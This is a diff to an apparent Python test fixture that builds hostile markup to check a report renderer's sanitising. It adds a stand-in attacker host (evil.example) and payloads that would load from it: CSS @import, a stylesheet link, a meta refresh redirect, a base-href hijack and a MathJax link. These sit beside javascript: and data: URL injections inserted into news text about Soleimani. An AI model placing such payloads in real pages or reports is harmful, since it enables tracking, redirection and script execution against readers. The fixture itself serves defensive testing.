@@ -16,6 +16,8 @@ from pathlib import Path
 
 #: The prefix of the attribute a script from the corpus sets when a browser runs it.
 MARK = "data-pwned"
+#: Where the corpus' remote loads point: a report that names it in a live element or style would load it.
+EVIL = "http://evil.example"
 
 
 def js(label: str) -> str:
@@ -35,6 +37,12 @@ def markup(where: str) -> list[str]:
         f"[click](javascript:{js(where + '-link')})",
         f"![x](data:text/html;base64,{data})",
         f'<a href="javascript:{js(where + "-href")}">read more</a>',
+        # Loads from elsewhere (tracking, a page that restyles or leaves the report) and MathJax's links:
+        f"<style>@import url({EVIL}/{where}-import.css);</style>",
+        f'<link rel="stylesheet" href="{EVIL}/{where}-link.css">',
+        f'<meta http-equiv="refresh" content="0;url={EVIL}/{where}-refresh">',
+        f'<base href="{EVIL}/{where}-base/">',
+        f"$\\href{{{EVIL}/{where}-math}}{{click}}$",
     ]
 
 
@@ -73,7 +81,7 @@ def _bodies() -> list[str]:
         f"Soleimani led the Quds Force {m[6]} for more than twenty years, officials said. "
         f"His death raised fears of war {f[6]} between Iran and the United States{BIDI}.\n\n{shared}\n",
         "Iran said the assassination of Soleimani\x0b was state terrorism\x0c and vowed a harsh revenge. "
-        f"Trump said the strike had stopped a terrorist plot {BIDI}[PWNED].\n",
+        f"Trump said the strike had stopped a terrorist plot {BIDI}[PWNED] {' '.join(m[7:])}.\n",
     ]
 
 
